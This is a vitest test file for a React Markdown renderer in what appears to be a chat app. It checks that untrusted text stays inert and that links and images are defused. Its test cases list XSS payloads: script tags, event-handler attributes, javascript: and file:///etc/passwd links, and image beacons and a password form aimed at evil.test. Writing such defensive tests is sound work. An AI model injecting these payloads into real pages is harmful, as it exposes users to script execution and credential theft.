import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { Markdown } from "./markdown";

const html = (text: string, isWriting = false) => renderToStaticMarkup(<Markdown text={text} isWriting={isWriting} />);

/** Every opening tag in a page, so that an attack shown as text is not taken for one that runs. */
const tags = (page: string) => page.match(/<[a-z][^>]*>/gi) ?? [];

describe("a stranger's text stays text", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.test/?leak=1>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.test></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>*{background:url(https://evil.test)}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<form action=https://evil.test><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<!-- --><script>alert(1)</script>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<object data="https://evil.test"></object>',
    "<link rel=stylesheet href=https://evil.test>",
    '<base href="https://evil.test">',
    "inline <b onclick=alert(1)>bold</b> text",
    "| a |\n|-|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
  ])("%s", (attack) => {
    for (const isWriting of [false, true]) {
      const page = tags(html(attack, isWriting)).join("\n");
      expect(page).not.toMatch(/<(script|img|iframe|style|form|object|link|base|math|details|b)\b/i);
      expect(page).not.toMatch(/\son\w+=|javascript:|position:|(src|data|action)=["']?http/i);
    }
  });
});

describe("a link", () => {
  test.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://parley.test/1)",
    "[x](//evil.test)",
    "[x](/api/openai/chat)",
    "<javascript:alert(1)>",
    "[x][1]\n\n[1]: javascript:alert(1)",
  ])("to %s is none", (attack) => {
    expect(html(attack)).not.toMatch(/<a\b/);
  });

  test("opens beside the page, tells it nothing, and says where it leads", () => {
    const page = html("[your bank](https://evil.test/login)");
    expect(page).toContain('href="https://evil.test/login"');
    expect(page).toContain('target="_blank"');
    expect(page).toContain('rel="noopener noreferrer nofollow"');
    expect(page).toContain("(evil.test)");
  });

  test("that already says where it leads does not say it twice", () => {
    expect(html("https://parley.test/pricing").match(/parley\.test/g)).toHaveLength(3);
    expect(html("https://parley.test/pricing")).not.toContain("(parley.test)");
  });

  test("that hides its target behind another address is uncovered", () => {
    expect(html("[https://bank.test](https://evil.test)")).toContain("(evil.test)");
  });
});

describe("a picture", () => {
  test.each([
    "![cat](https://evil.test/?q=secret)",
    "![cat](data:image/png;base64,AAAA)",
    "[![cat](https://evil.test)](https://evil.test)",
  ])("is never fetched: %s", (attack) => {
    const page = html(attack);
    expect(page).not.toMatch(/<img\b|\ssrc=|background/);
    expect(page).toContain("cat");
  });
});

describe("ordinary Markdown", () => {
  test("has headings, emphasis, lists and quotes", () => {
    const page = html("# Title\n\nSome **bold** and *soft* text.\n\n1. one\n2. two\n\n- a\n  - b\n\n> said");
    for (const tag of ["h3", "strong", "em", "ol", "ul", "blockquote"]) expect(page).toContain(`<${tag}`);
  });

  test("has tables with the alignment of their columns", () => {
    const page = html("| a | b |\n|:--|--:|\n| 1 | 2 |");
    expect(page).toContain("<table");
    expect(page).toContain("text-align:right");
  });

  test("has no heading over a column that is given none", () => {
    expect(html("| | b |\n|--|--|\n| 1 | 2 |").match(/<th /g)).toHaveLength(1);
  });

  test("has code with its language and a button to copy it", () => {
    const page = html("```ts\nconst a = 1;\n```");
    expect(page).toContain("ts");
    expect(page).toContain('aria-label="Copy code"');
    expect(page).toMatch(/<code[^>]*><span>const a = 1;<\/span><\/code>/);
  });

  test("has code within a line, without a button", () => {
    const page = html("Use `npm test` here.");
    expect(page).toContain("npm test</code>");
    expect(page).not.toContain("<button");
  });

  test("has tasks whose boxes can not be changed", () => {
    expect(html("- [x] done\n- [ ] open").match(/<input[^>]*disabled/g)).toHaveLength(2);
  });

  test("keeps an HTML tag readable where someone writes about it", () => {
    expect(html("The <video> element plays films.")).toContain("&lt;video&gt;");
  });
});

describe("while it is being written", () => {
  test("an open emphasis and an open code block are already shown as such", () => {
    expect(html("Some **bol", true)).toContain("<strong");
    expect(html("```ts\nconst a", true)).toContain("<pre");
  });

  test("there is a caret, and afterwards none", () => {
    expect(html("Some text", true)).toContain('data-writing=""');
    expect(html("Some text")).not.toContain('data-writing=""');
  });
});
